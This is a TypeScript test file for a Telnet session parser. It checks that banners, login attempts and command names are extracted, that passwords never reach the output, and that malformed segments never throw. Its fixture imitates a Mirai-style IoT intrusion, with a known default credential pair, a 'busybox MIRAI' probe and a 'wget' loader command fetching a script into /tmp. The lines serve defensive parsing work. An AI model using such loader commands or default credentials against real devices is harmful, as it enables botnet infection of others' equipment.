// Telnet sessions: options among the text, prompts, logins that fail and work, commands of a
// loader.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { batter, rehearse, tear, type Line } from '../rehearse.ts'
import { protocol } from './telnet.ts'

const line = (from: 'originator' | 'responder', text: string): Line => ({
  from,
  bytes: Buffer.from(text.replaceAll('\n', '\r\n'), 'latin1'),
})
const server = (text: string) => line('responder', text)
const client = (text: string) => line('originator', text)

const session: Line[] = [
  server('\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03'),
  client('\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0'),
  server('\nLink-2000 router\n(none) login: '),
  client('root\n'),
  server('root\nPassword: '),
  client('xc3511\n'),
  server('\nLogin incorrect\n(none) login: '),
  client('adm'),
  server('adm'),
  client('x\x7fin\n'),
  server('in\nPassword for admin: '),
  client('geheim\n'),
  server('\n\nBusyBox v1.19.3 built-in shell (ash)\n# '),
  client('/bin/busybox MIRAI; cat /proc/mounts\n'),
  server('MIRAI: applet not found\n# '),
  client('cd /tmp && wget http://192.0.2.9/secret.sh || mytool hunter2\n'),
]

test('banner, logins with their results, commands by name; never a password', () => {
  const { certainty, said, ...rest } = rehearse(protocol, session)
  assert.equal(certainty, 2)
  assert.deepEqual(said, [
    { kind: 'banner', text: 'Link-2000 router' },
    { kind: 'login', user: 'root', credentials: 'password' },
    { kind: 'login-result', accepted: false },
    { kind: 'login', user: 'admin', credentials: 'password' },
    { kind: 'login-result', accepted: true },
    { kind: 'command', name: 'busybox MIRAI' },
    { kind: 'command', name: 'cat' },
    { kind: 'command', name: 'wget' },
  ])
  assert.doesNotMatch(JSON.stringify([said, rest]), /xc3511|geheim|secret|hunter2/)
})

test('a second prompt is a refusal, a shell prompt a welcome', () => {
  const { said } = rehearse(protocol, [
    server('Username:'),
    client('op\n'),
    server('Password:'),
    client('one\n'),
    server('\nUsername: '),
    client('op\n'),
    server('Password: '),
    client('two\n'),
    server('\nswitch-7>'),
  ])
  assert.deepEqual(
    said.map(({ kind, accepted }) => accepted ?? kind),
    ['login', false, 'login', true],
  )
})

test('a shell without a login', () => {
  const { said } = rehearse(protocol, [server('\x1b[2JCamera shell\n~ $ '), client('ps\n')])
  assert.deepEqual(said, [
    { kind: 'banner', text: 'Camera shell' },
    { kind: 'command', name: 'ps' },
  ])
})

test('options are unmistakable, text only counts on own ports', () => {
  const certainty = (hex: string) => rehearse(protocol, [{ hex }]).certainty
  assert.equal(certainty('fffd18fffd20'), 2)
  assert.equal(certainty('fffb01'), 2)
  assert.equal(certainty('fffb0100'), 1)
  assert.equal(certainty('fffb'), 1)
  assert.equal(certainty('fffbff'), 0)
  assert.equal(certainty('ffd8ffe0'), 0, 'a picture')
  assert.equal(certainty('6c6f67696e3a20'), 1)
})

test('options are stripped wherever a segment ends', () => {
  tear(protocol, session)
})

test('cut and flipped segments never throw', () => {
  assert(batter(protocol, session) > 5000)
})
